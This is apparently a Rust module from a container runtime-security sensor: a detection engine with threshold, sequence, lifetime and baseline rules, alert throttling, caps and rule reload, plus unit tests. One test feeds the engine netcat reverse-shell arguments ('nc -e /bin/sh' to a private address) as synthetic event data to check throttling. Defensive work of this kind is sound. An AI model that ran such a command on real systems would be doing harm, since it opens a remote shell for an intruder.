//! The detection engine: rules compiled once, dispatched by event kind, each logic kind in its
//! own module with its own bounded state ([`keys::KeyTable`]: per-container quotas, counted
//! evictions), and one gate between a rule that fired and its alert ([`gate`]: throttle per
//! key and evidence, a per-container cap with "N more like this").

mod baseline;
mod gate;
mod keys;
mod lifetime;
mod new_value;
mod sequence;
mod threshold;

use std::collections::HashMap;

use sensor_proto::{self as pb, event::Body};

pub use gate::AlertCap;

use super::{
    condition::{Fields, Slot, Value},
    fields::EventView,
    learn::{BaselineParams, Baselines, LearnedSets, SavedLearning},
    rule::{CompiledRule, Logic},
};
use keys::KeyTable;

/// Seconds of an event's time (0 when it has none).
fn secs(e: &pb::Event) -> f64 {
    e.time
        .as_ref()
        .map(|t| t.seconds as f64 + t.nanos as f64 / 1e9)
        .unwrap_or(0.0)
}

/// One rule's state, by logic kind.
#[derive(Default)]
struct RuleState {
    windows: KeyTable<threshold::Window>,
    activity: KeyTable<lifetime::Activity>,
    /// Sequence key -> the latest first-step event and its time.
    started: KeyTable<sequence::FirstStep>,
    learned: LearnedSets,
    baselines: Baselines,
    gate: gate::Gate,
}

impl RuleState {
    /// Entries evicted from its keyed state to make room.
    fn evicted(&self) -> u64 {
        self.windows.evicted + self.activity.evicted + self.started.evicted
    }
}

/// What a rule's state holds and lost, for `health`.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct RuleStats {
    pub rule_id: String,
    /// Keys its state holds now.
    pub keys: u64,
    /// Keys evicted to make room (a container that filled its quota, or a full table).
    pub evicted: u64,
    /// Alerts its throttle dropped.
    pub throttled: u64,
    /// Alerts the per-container cap held back (counted in "N more like this" alerts).
    pub suppressed: u64,
}

/// What a rule reload ([`Engine::reload`]) did with the rules' state.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Reloaded {
    /// Rules whose state carried over.
    pub kept: usize,
    /// Rules whose logic or throttle changed: their state started over.
    pub changed: Vec<String>,
    /// Rules that were not loaded before.
    pub added: Vec<String>,
}

/// What a rule's state depends on: its logic as written, its conditions as compiled (so an
/// edited list or macro counts) and its throttle. Not its exceptions, texts or severity.
fn state_fingerprint(rule: &CompiledRule) -> String {
    format!(
        "{:?}\n{:?}\n{:?}\n{:?}",
        rule.doc.logic, rule.condition, rule.then, rule.doc.throttle
    )
}

/// Rules and their state.
pub struct Engine {
    rules: Vec<CompiledRule>,
    state: Vec<RuleState>,
    by_kind: HashMap<String, Vec<usize>>,
    any_kind: Vec<usize>,
    pub version: String,
    cap: AlertCap,
}

impl Engine {
    pub fn new(rules: Vec<CompiledRule>, version: String) -> Self {
        let rules: Vec<CompiledRule> = rules.into_iter().filter(|r| r.doc.enabled).collect();
        let mut by_kind: HashMap<String, Vec<usize>> = HashMap::new();
        let mut any_kind = Vec::new();
        for (i, rule) in rules.iter().enumerate() {
            let kinds = match &rule.doc.logic {
                // A sequence needs both steps' kinds.
                Logic::Sequence { .. } => rule
                    .condition
                    .kinds()
                    .zip(rule.then.as_ref().and_then(|t| t.kinds()))
                    .map(|(mut a, b)| {
                        a.extend(b);
                        a
                    }),
                // A lifetime rule also needs the container's exit.
                Logic::Lifetime { .. } => rule.condition.kinds().map(|mut k| {
                    k.push("container_exited".into());
                    k
                }),
                // A key's learning period may start with its first container.
                Logic::NewValue { .. } => rule.condition.kinds().map(|mut k| {
                    k.push("container_started".into());
                    k
                }),
                _ => rule.condition.kinds(),
            };
            match kinds {
                Some(kinds) => kinds
                    .into_iter()
                    .for_each(|k| by_kind.entry(k).or_default().push(i)),
                None => any_kind.push(i),
            }
        }
        let state = rules.iter().map(|_| RuleState::default()).collect();
        Self {
            rules,
            state,
            by_kind,
            any_kind,
            version,
            cap: AlertCap::default(),
        }
    }

    pub fn cap(&self) -> AlertCap {
        self.cap
    }

    /// The per-rule, per-container alert cap ([`gate`]); `limit` 0 turns it off.
    pub fn with_cap(mut self, cap: AlertCap) -> Self {
        self.cap = cap;
        self
    }

    /// The "N more like this" alerts of cap periods that ended by `now` (wall-clock seconds):
    /// called periodically, so held-back alerts are reported even when the flood stopped.
    pub fn tick(&mut self, now: f64) -> Vec<pb::Alert> {
        let cap = self.cap;
        self.state
            .iter_mut()
            .flat_map(|s| s.gate.flush(cap, now))
            .collect()
    }

    /// Per rule: its state's size and what it evicted, throttled and held back.
    pub fn stats(&self) -> Vec<RuleStats> {
        self.rules
            .iter()
            .zip(&self.state)
            .map(|(r, s)| RuleStats {
                rule_id: r.doc.id.clone(),
                keys: (s.windows.len() + s.activity.len() + s.started.len()) as u64,
                evicted: s.evicted(),
                throttled: s.gate.throttled,
                suppressed: s.gate.suppressed,
            })
            .collect()
    }

    pub fn rules(&self) -> &[CompiledRule] {
        &self.rules
    }

    /// The rules that read event kinds in `missing` (kinds no attached hook produces), each as
    /// `"ID: kind, kind"`, in rule order.
    pub fn blind_rules(&self, missing: &[&str]) -> Vec<String> {
        self.rules
            .iter()
            .enumerate()
            .filter_map(|(i, rule)| {
                let mut kinds: Vec<&str> = missing
                    .iter()
                    .copied()
                    .filter(|k| self.by_kind.get(*k).is_some_and(|r| r.contains(&i)))
                    .collect();
                kinds.dedup();
                (!kinds.is_empty()).then(|| format!("{}: {}", rule.doc.id, kinds.join(", ")))
            })
            .collect()
    }

    /// What the `new_value` rules learned, for saving.
    pub fn learned(&self) -> SavedLearning {
        self.rules
            .iter()
            .zip(&self.state)
            .filter(|(r, _)| matches!(r.doc.logic, Logic::NewValue { .. }))
            .map(|(r, s)| (r.doc.id.clone(), s.learned.export()))
            .collect()
    }

    /// Restores saved learning into the rules with the same ids.
    pub fn restore_learned(&mut self, mut saved: SavedLearning) {
        for (rule, state) in self.rules.iter().zip(&mut self.state) {
            if let Some(sets) = saved.remove(&rule.doc.id) {
                state.learned.import(sets);
            }
        }
    }

    /// Replaces the rules with `rules` (a rule reload), keeping their state where it still
    /// applies. A rule with the same id whose logic, compiled conditions (lists and macros
    /// expanded) and throttle did not change keeps all of it: windows, sequences, container
    /// lifetimes, throttles, cap periods, baselines and counters, so editing its exceptions,
    /// text or severity loses nothing. A changed rule starts over, keeping only what it learned.
    pub fn reload(&mut self, rules: Vec<CompiledRule>, version: String) -> Reloaded {
        let mut learned = self.learned();
        let mut old: HashMap<String, (String, RuleState)> = self
            .rules
            .iter()
            .zip(self.state.drain(..))
            .map(|(r, s)| (r.doc.id.clone(), (state_fingerprint(r), s)))
            .collect();
        let mut next = Engine::new(rules, version).with_cap(self.cap);
        let mut reloaded = Reloaded::default();
        for (rule, state) in next.rules.iter().zip(&mut next.state) {
            let id = &rule.doc.id;
            match old.remove(id) {
                Some((fingerprint, kept)) if fingerprint == state_fingerprint(rule) => {
                    *state = kept;
                    reloaded.kept += 1;
                    // Its learning came with its state.
                    learned.remove(id);
                }
                Some(_) => reloaded.changed.push(id.clone()),
                None => reloaded.added.push(id.clone()),
            }
        }
        next.restore_learned(learned);
        *self = next;
        reloaded
    }

    /// Whether any rule learned something since the last call.
    pub fn learned_changed(&mut self) -> bool {
        // Every rule's flag is taken, not only up to the first set one.
        let mut any = false;
        for state in &mut self.state {
            any |= state.learned.take_dirty();
        }
        any
    }

    /// Evaluates `event` against the rules for its kind; returns the alerts it raises.
    pub fn on_event(&mut self, event: &pb::Event) -> Vec<pb::Alert> {
        let candidates: Vec<usize> = self
            .by_kind
            .get(&event.kind)
            .into_iter()
            .flatten()
            .chain(&self.any_kind)
            .copied()
            .collect();
        let view = EventView(event);
        let mut alerts = Vec::new();
        for i in candidates {
            let rule = &self.rules[i];
            let state = &mut self.state[i];
            let firing: Option<Firing> = match &rule.doc.logic {
                Logic::Condition { .. } => matches(rule, &view).then(|| vec![event.clone()].into()),
                Logic::Threshold {
                    key,
                    distinct,
                    sum,
                    above,
                    window_seconds,
                    ..
                } => {
                    if !matches(rule, &view) {
                        continue;
                    }
                    threshold::Threshold {
                        key,
                        distinct: distinct.as_deref(),
                        sum: sum.as_deref(),
                        above: *above,
                        window_seconds: *window_seconds as f64,
                    }
                    .observe(&mut state.windows, &view, event)
                    .map(Firing::from)
                }
                Logic::Lifetime {
                    max_lifetime_ms, ..
                } => lifetime::observe(rule, &mut state.activity, &view, event, *max_lifetime_ms)
                    .map(Firing::from),
                Logic::Sequence {
                    within_seconds,
                    key,
                    ..
                } => sequence::observe(
                    rule,
                    &mut state.started,
                    &view,
                    event,
                    key,
                    *within_seconds as f64,
                )
                .map(Firing::from),
                Logic::NewValue {
                    key,
                    value,
                    learn_seconds,
                    ..
                } => new_value::NewValue {
                    key,
                    value,
                    learn_seconds: *learn_seconds as f64,
                }
                .observe(rule, &mut state.learned, &view, event)
                .map(Firing::from),
                Logic::Baseline {
                    key,
                    value,
                    factor,
                    floor,
                    min_samples,
                    alpha,
                    ..
                } => {
                    let params = BaselineParams {
                        factor: *factor,
                        floor: *floor as f64,
                        min_samples: *min_samples,
                        alpha: *alpha,
                    };
                    baseline::observe(
                        rule,
                        &mut state.baselines,
                        &view,
                        event,
                        (key, value),
                        &params,
                    )
                }
            };
            if let Some(Firing(evidence, extra)) = firing {
                let raised = alert(rule, &self.version, event, evidence, &extra);
                alerts.extend(state.gate.admit(rule, &view, raised, self.cap, secs(event)));
            }
        }
        self.note_signals(event, &alerts);
        alerts
    }

    /// Another rule's alert about a container is notable to the lifetime rules: a short life
    /// then aggravates a signal of its own (the event that raised it joins the evidence)
    /// instead of being the signal. Alerts about the node (a threshold over all containers,
    /// such as CRS-003's burst, names its latest container only by chance) do not count.
    fn note_signals(&mut self, event: &pb::Event, alerts: &[pb::Alert]) {
        // The exit ends the container's record; nothing may start one after it.
        if alerts.is_empty() || matches!(event.body, Some(Body::ContainerExited(_))) {
            return;
        }
        let container = match &event.container {
            Some(c) if !c.id.is_empty() => c.id.clone(),
            _ => return,
        };
        let is_lifetime = |r: &CompiledRule| matches!(r.doc.logic, Logic::Lifetime { .. });
        let about_container = |r: &CompiledRule| match &r.doc.logic {
            Logic::Lifetime { .. } => false,
            Logic::Threshold { key, .. } => key.iter().any(|k| k == "container.id"),
            _ => true,
        };
        let signalled = alerts.iter().any(|a| {
            self.rules
                .iter()
                .any(|r| r.doc.id == a.rule_id && about_container(r))
        });
        if !signalled {
            return;
        }
        for (rule, state) in self.rules.iter().zip(&mut self.state) {
            if is_lifetime(rule) {
                state
                    .activity
                    .entry(&container, &container, lifetime::Activity::default)
                    .note(event);
            }
        }
    }
}

/// What a rule fired with: its evidence, and values the output template may name besides the
/// event's fields (`baseline.mean`, `baseline.value`).
struct Firing(Vec<pb::Event>, Vec<(&'static str, Value)>);

impl From<Vec<pb::Event>> for Firing {
    fn from(evidence: Vec<pb::Event>) -> Self {
        Firing(evidence, Vec::new())
    }
}

/// An event's fields plus a few values of the rule's own.
struct WithExtra<'a> {
    view: &'a dyn Fields,
    extra: &'a [(&'static str, Value)],
}

impl Fields for WithExtra<'_> {
    fn field(&self, name: &str) -> Option<Value> {
        self.extra
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, v)| v.clone())
            .or_else(|| self.view.field(name))
    }

    fn resolved(&self, slot: &Slot, name: &str) -> Option<Value> {
        self.view.resolved(slot, name)
    }
}

/// The rule's condition holds and no exception does.
fn matches(rule: &CompiledRule, view: &dyn Fields) -> bool {
    rule.condition.eval(view) && !excepted(rule, view)
}

/// One of the rule's exceptions holds.
fn excepted(rule: &CompiledRule, view: &dyn Fields) -> bool {
    rule.exceptions.iter().any(|(_, x)| x.eval(view))
}

fn field_text(view: &dyn Fields, name: &str) -> String {
    view.field(name).map(|v| v.to_string()).unwrap_or_default()
}

/// The container an event is about (`""` for the host or the node): the owner of the keyed
/// state it creates.
fn owner(event: &pb::Event) -> &str {
    event.container.as_ref().map_or("", |c| c.id.as_str())
}

/// The values of `fields` in the event, joined: the key of a window, sequence or throttle.
fn key_of(view: &dyn Fields, fields: &[String]) -> String {
    fields
        .iter()
        .map(|k| field_text(view, k))
        .collect::<Vec<_>>()
        .join("|")
}

/// The values of `fields` joined, or `None` when one is missing: the key of learned state,
/// which must not lump events without the field together.
fn full_key(view: &dyn Fields, fields: &[String]) -> Option<String> {
    let parts: Option<Vec<String>> = fields
        .iter()
        .map(|f| view.field(f).map(|v| v.to_string()))
        .collect();
    parts.map(|p| p.join("|"))
}

/// Fills `{field}` placeholders from the event; `{a|b}` takes the first field present (a rule
/// matching several event kinds names each kind's field).
pub fn render(template: &str, view: &dyn Fields) -> String {
    let mut out = String::with_capacity(template.len());
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        let Some(close) = rest[open..].find('}') else {
            break;
        };
        out.push_str(&rest[..open]);
        let name = &rest[open + 1..open + close];
        out.push_str(
            &name
                .split('|')
                .find_map(|n| view.field(n.trim()))
                .map(|v| v.to_string())
                .unwrap_or_else(|| "<none>".into()),
        );
        rest = &rest[open + close + 1..];
    }
    out.push_str(rest);
    out
}

/// The alert for `rule`, raised by `event` with `evidence` (the triggering events, oldest first).
fn alert(
    rule: &CompiledRule,
    version: &str,
    event: &pb::Event,
    evidence: Vec<pb::Event>,
    extra: &[(&'static str, Value)],
) -> pb::Alert {
    let doc = &rule.doc;
    // The process of the first evidence that has one (for a lifetime rule, not the exit event).
    let process = evidence.iter().find_map(|e| e.process.clone());
    pb::Alert {
        time: event.time,
        node: event.node.clone(),
        rule_id: doc.id.clone(),
        rule_name: doc.name.clone(),
        severity: doc.severity as i32,
        techniques: doc.attack.techniques.clone(),
        tactics: vec![doc.attack.tactic.clone()],
        summary: render(
            &doc.output,
            &WithExtra {
                view: &EventView(evidence.first().unwrap_or(event)),
                extra,
            },
        ),
        container: event.container.clone(),
        process,
        events: evidence,
        response: doc.response.join("\n"),
        rule_set_version: version.to_string(),
        ..Default::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::{
        fields,
        rule::{SharedDefs, compile_rule},
    };

    #[test]
    fn blind_rules_are_those_reading_missing_kinds() {
        let rules = crate::detect::catalog::load(None).unwrap();
        let engine = Engine::new(rules, "v".into());
        let blind = engine.blind_rules(&["bpf", "ptrace", "perf_event_open", "mount"]);
        assert_eq!(
            blind,
            [
                "CRS-014: bpf",
                "CRS-015: ptrace",
                "CRS-016: ptrace",
                "CRS-017: perf_event_open, mount"
            ]
        );
        assert!(engine.blind_rules(&[]).is_empty());
    }

    fn rule(logic: &str, extra: &str) -> CompiledRule {
        let raw = format!(
            "id: T-1\nname: t\ngoal: g\nattack: {{techniques: [T1], tactic: t}}\nseverity: low\nstrategy: s\n\
             blind_spots: []\nfalse_positives: []\nvalidation: v\nresponse: [r]\noutput: \"{{proc.exe}}\"\n{extra}logic:\n{logic}"
        );
        compile_rule("t.yaml", &raw, &SharedDefs::default(), &fields::EventSchema).unwrap()
    }

    fn event(kind: &str, cid: &str, exe: &str, t: i64) -> pb::Event {
        let body = match kind {
            "exec" => Body::Exec(pb::Exec::default()),
            "container_exited" => Body::ContainerExited(pb::ContainerExited {
                lifetime: Some(pbjson_types::Duration {
                    seconds: 2,
                    nanos: 0,
                }),
                lifetime_exact: true,
            }),
            _ => Body::Socket(pb::SocketCall {
                op: "listen".into(),
                ..Default::default()
            }),
        };
        pb::Event {
            time: Some(pbjson_types::Timestamp {
                seconds: t,
                nanos: 0,
            }),
            container: Some(pb::Container {
                id: cid.into(),
                ..Default::default()
            }),
            process: Some(pb::Process {
                exe: exe.into(),
                ..Default::default()
            }),
            ..Default::default()
        }
        .with_body(body)
    }

    fn run(engine: &mut Engine, events: &[pb::Event]) -> Vec<usize> {
        events.iter().map(|e| engine.on_event(e).len()).collect()
    }

    #[test]
    fn threshold_counts_per_key_within_the_window_and_starts_over() {
        let r = rule(
            "  kind: threshold\n  condition: evt.kind = exec\n  key: [container.id]\n  above: 2\n  window_seconds: 10\n",
            "",
        );
        let mut e = Engine::new(vec![r], "v".into());
        let evs = [
            event("exec", "a", "/x", 0),
            event("exec", "b", "/x", 1),
            event("exec", "a", "/x", 2),
            event("exec", "a", "/x", 3), // third for `a` within 10 s: fires
            event("exec", "a", "/x", 4), // window started over
            event("exec", "b", "/x", 20), // `b`'s first one expired
            event("exec", "b", "/x", 21),
        ];
        assert_eq!(run(&mut e, &evs), [0, 0, 0, 1, 0, 0, 0]);
    }

    #[test]
    fn a_reload_keeps_the_state_of_rules_whose_logic_did_not_change() {
        let logic = "  kind: threshold\n  condition: evt.kind = exec and proc.exe in (tools)\n  key: [container.id]\n  above: 2\n  window_seconds: 60\n";
        let tools = |list: &str| format!("lists: {{tools: [{list}]}}\n");
        let mut e = Engine::new(vec![rule(logic, &tools("/x, /y"))], "v1".into());
        assert_eq!(
            run(
                &mut e,
                &[event("exec", "a", "/x", 0), event("exec", "a", "/x", 1)]
            ),
            [0, 0]
        );

        // An exception and another list order: the same state; the window goes on.
        let excepted = format!(
            "{}exceptions:\n  - {{name: ok, reason: fine, condition: proc.exe = /y}}\n",
            tools("/y, /x")
        );
        let reloaded = e.reload(vec![rule(logic, &excepted)], "v2".into());
        assert_eq!(
            reloaded,
            Reloaded {
                kept: 1,
                ..Default::default()
            }
        );
        assert_eq!(run(&mut e, &[event("exec", "a", "/x", 2)]), [1]);

        // The list itself changed: the window starts over.
        assert_eq!(
            run(
                &mut e,
                &[event("exec", "a", "/x", 3), event("exec", "a", "/x", 4)]
            ),
            [0, 0]
        );
        let reloaded = e.reload(vec![rule(logic, &tools("/x, /z"))], "v3".into());
        assert_eq!(reloaded.changed, ["T-1"]);
        assert_eq!(
            run(
                &mut e,
                &[event("exec", "a", "/x", 5), event("exec", "a", "/x", 6)]
            ),
            [0, 0]
        );
        assert_eq!(run(&mut e, &[event("exec", "a", "/x", 7)]), [1]);
    }

    #[test]
    fn throttle_and_exceptions() {
        let extra = "throttle: {key: [container.id], seconds: 60}\nexceptions:\n  - {name: ok, reason: fine, condition: proc.exe = /allowed}\n";
        let r = rule("  kind: condition\n  condition: evt.kind = exec\n", extra);
        let mut e = Engine::new(vec![r], "v".into());
        let evs = [
            event("exec", "a", "/x", 0),
            event("exec", "a", "/x", 30),
            event("exec", "a", "/allowed", 100),
            event("exec", "a", "/x", 100),
            event("exec", "b", "/x", 100),
        ];
        assert_eq!(run(&mut e, &evs), [1, 0, 0, 1, 1]);
    }

    #[test]
    fn a_decoy_does_not_burn_the_throttle_for_the_real_attack() {
        let extra = "throttle: {key: [container.id], seconds: 600}\n";
        let r = rule("  kind: condition\n  condition: evt.kind = exec\n", extra);
        let mut e = Engine::new(vec![r], "v".into());
        let with_args = |exe: &str, args: &[&str], t| {
            let mut ev = event("exec", "a", exe, t);
            ev.process.as_mut().unwrap().args = args.iter().map(|a| a.to_string()).collect();
            ev
        };
        let evs = [
            with_args("/bin/nc", &["nc", "-e", "/bin/true", "127.0.0.1", "1"], 0), // decoy
            with_args("/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.9", "443"], 1),  // the attack
            with_args("/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.9", "443"], 2),  // repeated
        ];
        assert_eq!(run(&mut e, &evs), [1, 1, 0]);
        assert_eq!(e.stats()[0].throttled, 1);
    }

    #[test]
    fn a_flood_of_distinct_alerts_is_capped_and_reported_as_n_more() {
        let r = rule("  kind: condition\n  condition: evt.kind = exec\n", "");
        let cap = AlertCap {
            limit: 3,
            seconds: 60.0,
        };
        let mut e = Engine::new(vec![r], "v".into()).with_cap(cap);
        let flood: Vec<pb::Event> = (0..10)
            .map(|i| event("exec", "a", &format!("/x{i}"), i))
            .collect();
        assert_eq!(run(&mut e, &flood), [1, 1, 1, 0, 0, 0, 0, 0, 0, 0]);
        // Another container is not capped by the first one's flood.
        assert_eq!(e.on_event(&event("exec", "b", "/y", 11)).len(), 1);
        assert!(e.tick(30.0).is_empty(), "the period has not ended");
        let more = e.tick(61.0);
        assert_eq!(more.len(), 1);
        assert_eq!(more[0].suppressed, 7);
        assert!(
            more[0].summary.starts_with("7 more like this"),
            "{}",
            more[0].summary
        );
        assert_eq!(
            more[0].process.as_ref().unwrap().exe,
            "/x9",
            "the latest held back"
        );
        assert_eq!(e.stats()[0].suppressed, 7);
        assert!(e.tick(200.0).is_empty(), "reported once");
        // A new period: alerts pass again.
        assert_eq!(e.on_event(&event("exec", "a", "/z", 300)).len(), 1);
    }

    #[test]
    fn one_container_cannot_fill_a_threshold_and_silence_it_for_another() {
        let logic = "  kind: threshold\n  condition: evt.kind = exec\n  key: [container.id, proc.exe]\n  above: 1\n  window_seconds: 600\n";
        let mut e = Engine::new(vec![rule(logic, "")], "v".into()).with_cap(AlertCap {
            limit: 0,
            seconds: 1.0,
        });
        assert!(
            e.on_event(&event("exec", "victim", "/bin/sh", 0))
                .is_empty()
        );
        for i in 0..(keys::MAX_KEYS as i64 * 2) {
            e.on_event(&event("exec", "flood", &format!("/f{i}"), 1));
        }
        assert_eq!(
            e.on_event(&event("exec", "victim", "/bin/sh", 2)).len(),
            1,
            "the victim's window survived the flood"
        );
        let stats = &e.stats()[0];
        assert!(stats.evicted >= keys::MAX_KEYS as u64, "{stats:?}");
        assert!(
            stats.keys <= keys::MAX_KEYS_PER_OWNER as u64 + 1,
            "{stats:?}"
        );
    }

    #[test]
    fn sequence_needs_the_first_step_in_the_window_for_the_same_container() {
        let logic = "  kind: sequence\n  first: evt.kind = socket and socket.op = listen\n  then: evt.kind = exec and proc.exe = /bin/sh\n  within_seconds: 10\n";
        let mut e = Engine::new(vec![rule(logic, "")], "v".into());
        let evs = [
            event("exec", "a", "/bin/sh", 0), // no listen before
            event("socket", "a", "/nc", 1),
            event("exec", "b", "/bin/sh", 2), // another container
            event("exec", "a", "/bin/sh", 5), // fires
            event("exec", "a", "/bin/sh", 6), // consumed
            event("socket", "a", "/nc", 10),
            event("exec", "a", "/bin/sh", 30), // too late
        ];
        assert_eq!(run(&mut e, &evs), [0, 0, 0, 1, 0, 0, 0]);
        let alert = e.on_event(&event("socket", "c", "/nc", 40)).len()
            + e.on_event(&event("exec", "c", "/bin/sh", 41)).len();
        assert_eq!(alert, 1);
    }

    #[test]
    fn lifetime_fires_at_exit_with_the_evidence() {
        let logic = "  kind: lifetime\n  max_lifetime_ms: 5000\n  notable: evt.kind = exec and proc.exe = /bin/sh\n";
        let mut e = Engine::new(vec![rule(logic, "")], "v".into());
        assert!(e.on_event(&event("exec", "a", "/bin/sh", 0)).is_empty());
        assert!(
            e.on_event(&event("container_exited", "b", "", 1))
                .is_empty(),
            "b did nothing notable"
        );
        let alerts = e.on_event(&event("container_exited", "a", "", 2));
        assert_eq!(alerts.len(), 1);
        let kinds: Vec<&str> = alerts[0].events.iter().map(|e| e.kind.as_str()).collect();
        assert_eq!(kinds, ["exec", "container_exited"]);
        assert_eq!(alerts[0].process.as_ref().unwrap().exe, "/bin/sh");
    }

    #[test]
    fn another_rules_alert_is_notable_to_a_lifetime_rule() {
        let short = "  kind: lifetime\n  max_lifetime_ms: 5000\n  notable: proc.exe = /never\n";
        let mut signal = rule(
            "  kind: condition\n  condition: proc.exe = /bin/implant\n",
            "",
        );
        signal.doc.id = "T-2".into();
        let mut e = Engine::new(vec![rule(short, ""), signal], "v".into());
        assert_eq!(e.on_event(&event("exec", "a", "/bin/implant", 0)).len(), 1);
        assert!(e.on_event(&event("exec", "b", "/bin/true", 0)).is_empty());
        let alerts = e.on_event(&event("container_exited", "a", "", 2));
        assert_eq!(alerts.len(), 1, "the short life aggravates T-2's signal");
        assert_eq!(alerts[0].rule_id, "T-1");
        assert_eq!(alerts[0].process.as_ref().unwrap().exe, "/bin/implant");
        assert!(
            e.on_event(&event("container_exited", "b", "", 2))
                .is_empty(),
            "a short life alone is no signal"
        );
        // A node-wide threshold's alert names a container by chance: no signal about it.
        let mut node = rule(
            "  kind: threshold\n  condition: evt.kind = exec\n  above: 0\n  window_seconds: 10\n",
            "",
        );
        node.doc.id = "T-3".into();
        let mut e = Engine::new(vec![rule(short, ""), node], "v".into());
        assert_eq!(e.on_event(&event("exec", "c", "/bin/true", 0)).len(), 1);
        assert!(
            e.on_event(&event("container_exited", "c", "", 2))
                .is_empty()
        );
    }

    fn in_container(
        mut ev: pb::Event,
        name: &str,
        image: &str,
        labels: &[(&str, &str)],
    ) -> pb::Event {
        let c = ev.container.as_mut().unwrap();
        c.name = name.into();
        c.image = image.into();
        c.labels = labels
            .iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        ev
    }

    #[test]
    fn exceptions_by_image_name_and_label() {
        let extra = "exceptions:\n  - name: ci\n    reason: CI runners do this\n    images: [\"registry/ci-runner:*\", tools/debug]\n  - name: named\n    reason: r\n    container_names: [\"trusted-*\"]\n  - name: infra\n    reason: r\n    labels: {team: infra, app.kubernetes.io/part-of: \"*\"}\n";
        let r = rule("  kind: condition\n  condition: evt.kind = exec\n", extra);
        let mut e = Engine::new(vec![r], "v".into());
        let ev = |name, image, labels: &[(&str, &str)]| {
            in_container(event("exec", "a", "/x", 0), name, image, labels)
        };
        let cases = [
            (ev("web", "registry/ci-runner:2", &[]), 0),
            (ev("web", "registry/ci-runner", &[]), 1), // no tag: `:*` does not match
            (ev("web", "tools/debug:1.0", &[]), 0),    // a repository covers every tag
            (ev("web", "tools/debugger", &[]), 1),
            (ev("trusted-build", "nginx", &[]), 0),
            (ev("untrusted", "nginx", &[]), 1),
            (ev("x", "nginx", &[("team", "infra")]), 1), // both labels are needed
            (
                ev(
                    "x",
                    "nginx",
                    &[("team", "infra"), ("app.kubernetes.io/part-of", "mon")],
                ),
                0,
            ),
            (ev("", "", &[]), 1), // metadata not known yet: no exception applies
        ];
        for (i, (event, alerts)) in cases.iter().enumerate() {
            assert_eq!(e.on_event(event).len(), *alerts, "case {i}");
        }
    }

    #[test]
    fn exceptions_by_executable_ancestor_and_address() {
        let extra = "exceptions:\n  - {name: probe, reason: r, executables: [\"/usr/local/bin/probe-*\"]}\n  - {name: entry, reason: r, ancestors: [/entrypoint.sh]}\n  - {name: backup, reason: r, addresses: [10.0.5.0/24, \"fd00::9\"]}\n";
        let r = rule("  kind: condition\n  condition: evt.kind = socket\n", extra);
        let mut e = Engine::new(vec![r], "v".into());
        let ev = |exe: &str, parent: &str, peer: &str| {
            let mut ev = event("socket", "a", exe, 0);
            let p = ev.process.as_mut().unwrap();
            p.ancestry = vec![
                pb::Ancestor {
                    exe: parent.into(),
                    ..Default::default()
                },
                pb::Ancestor {
                    exe: "/bin/sh".into(),
                    ..Default::default()
                },
            ];
            if let Some(Body::Socket(b)) = ev.body.as_mut() {
                b.remote = Some(pb::Endpoint {
                    address: peer.into(),
                    ..Default::default()
                });
            }
            ev
        };
        let cases = [
            (ev("/usr/local/bin/probe-http", "/bin/sh", "8.8.8.8"), 0),
            (ev("/usr/bin/nc", "/bin/sh", "8.8.8.8"), 1),
            (ev("/usr/bin/nc", "/entrypoint.sh", "8.8.8.8"), 0),
            (ev("/usr/bin/nc", "/bin/sh", "10.0.5.77"), 0),
            (ev("/usr/bin/nc", "/bin/sh", "::ffff:10.0.5.77"), 0),
            (ev("/usr/bin/nc", "/bin/sh", "10.0.6.1"), 1),
            (ev("/usr/bin/nc", "/bin/sh", "fd00::9"), 0),
            (ev("/usr/bin/nc", "/bin/sh", ""), 1),
        ];
        for (i, (event, alerts)) in cases.iter().enumerate() {
            assert_eq!(e.on_event(event).len(), *alerts, "case {i}");
        }
    }

    #[test]
    fn an_exception_by_kubernetes_namespace_silences_only_that_namespace_s_pods() {
        let extra = "exceptions:\n  - {name: ci, reason: r, k8s_namespaces: [ci, \"ci-*\"]}\n";
        let r = rule("  kind: condition\n  condition: evt.kind = exec\n", extra);
        let mut e = Engine::new(vec![r], "v".into());
        let ev = |namespace: Option<&str>| {
            let mut ev = event("exec", "a", "/usr/bin/nc", 0);
            ev.container.as_mut().unwrap().pod = namespace.map(|ns| pb::Pod {
                namespace: ns.into(),
                ..Default::default()
            });
            ev
        };
        let cases = [
            (ev(Some("ci")), 0),
            (ev(Some("ci-nightly")), 0),
            (ev(Some("prod")), 1),
            (ev(Some("circus")), 1),
            // Not in a pod (or CRI has not answered): no namespace to match.
            (ev(None), 1),
        ];
        for (i, (event, alerts)) in cases.iter().enumerate() {
            assert_eq!(e.on_event(event).len(), *alerts, "case {i}");
        }
    }

    #[test]
    fn an_exception_without_criteria_or_with_a_bad_label_key_is_refused() {
        let base = "id: T-1\nname: t\ngoal: g\nattack: {techniques: [T1], tactic: t}\nseverity: low\nstrategy: s\nblind_spots: []\nfalse_positives: []\nvalidation: v\nresponse: [r]\noutput: o\nlogic: {kind: condition, condition: evt.kind = exec}\n";
        let empty = format!("{base}exceptions:\n  - name: nothing\n    reason: r\n");
        let e = compile_rule(
            "t.yaml",
            &empty,
            &SharedDefs::default(),
            &fields::EventSchema,
        )
        .unwrap_err();
        assert!(e.message.contains("matches nothing"), "{e}");
        assert_eq!(e.line, 14, "{e}");
        let bad =
            format!("{base}exceptions:\n  - name: b\n    reason: r\n    labels: {{\"a b\": x}}\n");
        let e =
            compile_rule("t.yaml", &bad, &SharedDefs::default(), &fields::EventSchema).unwrap_err();
        assert!(e.message.contains("label key"), "{e}");
        let bad = format!(
            "{base}exceptions:\n  - name: b\n    reason: r\n    addresses: [10.0.5.0/24, 10.0.5.1/24]\n"
        );
        let e =
            compile_rule("t.yaml", &bad, &SharedDefs::default(), &fields::EventSchema).unwrap_err();
        assert_eq!((e.line, e.column), (16, 30), "{e}");
        assert!(e.message.contains("write the network (10.0.5.0/24)"), "{e}");
    }

    #[test]
    fn a_lifetime_rule_honours_exceptions_known_only_at_exit() {
        let logic = "  kind: lifetime\n  max_lifetime_ms: 5000\n  notable: evt.kind = exec\n";
        let extra = "exceptions:\n  - {name: ci, reason: r, images: [ci]}\n";
        let mut e = Engine::new(vec![rule(logic, extra)], "v".into());
